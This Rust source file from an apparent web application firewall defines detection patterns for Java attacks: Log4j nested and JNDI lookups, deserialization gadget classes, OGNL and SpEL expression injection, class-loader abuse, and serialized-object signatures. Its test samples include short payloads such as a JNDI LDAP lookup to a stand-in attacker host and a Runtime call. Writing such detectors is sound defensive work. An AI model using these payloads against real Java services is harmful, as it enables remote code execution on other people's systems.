//! Java: classes, expression languages, lookups, serialized objects.

use crate::waf::detect::macros::patterns;
use crate::waf::view::Places;

patterns! {
    class Java, tags &["java"], places Places::VALUES;
    NESTED_LOOKUP: "java-lookup", STRONG, "a lookup that a logger resolves",
        literals ["${"],
        r"\$\{\s*(?:\$\{|(?:env|sys|lower|upper|date|main|ctx|base64|java|bundle|sd|map|log4j|k8s|docker|web|spring|script|dns|url|const|xml):|[^}\s]*:-)",
        ["${${lower:j}ndi}", "${env:AWS_SECRET}", "${::-j}"], ["${first_name}", "Dear ${user.name}"];
    CLASS: "java-class", STRONG, "a class of Java that attacks reach for",
        literals ["java.", "javax.", "com.sun.", "xwork", "org.omg.", "javassist", "org.apache.", "springframework", "org.codehaus", "org.hibernate", "org.mozilla", "org.python", "bsh.interp", "freemarker."],
        r"(?:\bjava\.(?:lang\.(?:runtime|process(?:builder|impl)?|class(?:loader)?|object|system|thread|reflect|string(?:builder|buffer)?|integer|character|boolean|math|byte|short|long|number|shutdown|package|unixprocess|exception|override|compiler|securitymanager)\b|io\.(?:\w*(?:reader|writer|stream)|file|console|serializable|objectstreamclass)\b|net\.\w+|nio\.\w+|rmi\.\w+|beans\.\w+|util\.(?:scanner|zip|jar|logging|concurrent|hashmap|priorityqueue)\b|sql\.\w+|security\.\w+|runtime\b|processbuilder\b|(?:\w+\.)+(?:runtime|processbuilder)\b)|\bjavax\.(?:script|naming|management|el|servlet|xml|crypto)\.\w+|\bjavassist\b|\bcom\.sun\.(?:org\.apache|rowset|jndi|net|syndication)|\b(?:com\.opensymphony\.)xwork2?|\borg\.omg\.corba|(?:^|[=:\x22'(@#,;>{\[]\s*)org\.(?:apache\.(?:commons|struts2?|catalina|xalan|bcel|tomcat|logging|log4j|velocity|xbean)|springframework\.(?:context|beans|expression|core)|codehaus\.groovy|hibernate\.\w+|mozilla\.javascript|python\.core)|springframework\.context\.support\.\w+|\bbsh\.interpreter|\bfreemarker\.(?:core|template))",
        ["java.lang.Runtime", "java.io.BufferedReader", "javax.script.ScriptEngineManager"],
        ["java.lang.NullPointerException: x is null", "at org.apache.tomcat.x", "javascript.info"];
    GADGET: "java-gadget", STRONG, "a class of a chain that deserialization runs",
        literals ["transformer", "forclosure", "whileclosure", "instantiatefactory", "prototypeclonefactory", "prototypeserializationfactory", "templatesimpl", "beancomparator", "badattributevalue", "jdbcrowset", "xmldecoder", "ysoserial", "annotationinvocationhandler"],
        r"(?:(?:clone|instantiate|invoker|chained|constant)transformer|(?:for|while|transformer)closure|instantiatefactory|prototypeclonefactory|prototypeserializationfactory|templatesimpl\b|beancomparator|badattributevalueexpexception|jdbcrowsetimpl|xmldecoder\b|ysoserial|annotationinvocationhandler)",
        ["InvokerTransformer", "runtime.forclosure"], ["disclosure", "closure of the road"];
    EXPRESSION: "java-expression", STRONG, "an expression language that calls methods",
        literals ["memberaccess", "#context", "@java", "@org.apache", "t(java", "t(org.", "t (java", "t (org.", "(#", "( #", "getruntime", "#application", "#parameters", "redirect:", "redirectaction:", "redirect-action:", "action:", "staticmethod", "getclass", "#response", "#request", "#session", "class.forname", "getdeclared", "#{", "%{", "${"],
        r"(?:#_?memberaccess|allowstaticmethodaccess|#context\s*[\[.=]|\(\s*#\w+\s*=|@java\.|@org\.apache|\bt\s*\(\s*(?:java|org|javax)\.|\bgetruntime\s*\((?:\s*\)\s*(?:[^;\s]|$)|\s*[^)\s]|\s*$)|#(?:application|parameters|response|request|session)\s*[\[.]|\b(?:redirect(?:-?action)?|action):\s*[$%#]\{|\bgetclass\s*\(\s*\)\s*\.|\bclass\.forname\s*\(|\bgetdeclared(?:method|constructor|field)s?\s*\(|[$#%]\{[^}\r\n]*(?:\.exec\s*\(|\.getclass|\.class\.|applicationscope|\bfacescontext|pagecontext|@\w+@|new\s+\w+))",
        ["%{(#_memberAccess=x)}", "T(java.lang.Runtime).getRuntime()", "${''.getClass().forName('x')}"], ["action: none", "#{title}"];
    CLASS_LOADER: "java-class-loader", STRONG, "the class loader by way of a property",
        literals ["class.module", "class.classloader", "class.protection", "class["], r"\bclass(?:\.|\[['\x22]?)(?:module|classloader|protectiondomain)\b", ["class.module.classLoader.x"], ["class module"];
    DECODER: "java-xml-decoder", STRONG, "objects of Java in XML",
        literals ["<java", "<object", "<void"], r"<(?:java|object|void)\b[^>]*\bclass\s*=\s*['\x22]java", ["<java class=\"java.beans.XMLDecoder\">"], [];
}

/// What strikes those who only store a file, or log of it.
pub(super) mod anywhere {
    use crate::waf::detect::macros::patterns;
    use crate::waf::view::{Place, Places};

    patterns! {
        class Java, tags &["java"], places Places::VALUES.and(&[Place::File]);
        LOOKUP: "java-jndi", STRONG, "a lookup by JNDI",
            literals ["jndi", "ndi:"], r"(?:\$\{?\s*jndi\s*:|\{\s*jndi\s*:|\bjndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?):|\bndi:(?:ldaps?|rmi|dns):)",
            ["${jndi:ldap://evil.example/a}"], ["the jndi tutorial"];
        SERIALIZED: "java-serialized", STRONG, "a serialized object of Java",
            literals ["rO0AB", "KztAAU", "Cs7QAF", "H4sIAAAAAAAA"], r"(?:^|[^a-z0-9+/])(?-i:rO0AB[A-Za-z]|KztAAU|Cs7QAF)", ["rO0ABXNyABFq"], ["pro0abc"];
        STREAM: "java-stream", STRONG, "the head of a stream of Java objects",
            literals ["\u{0}\u{5}"], r"\xac\xed\x00\x05", [], [];
    }
}
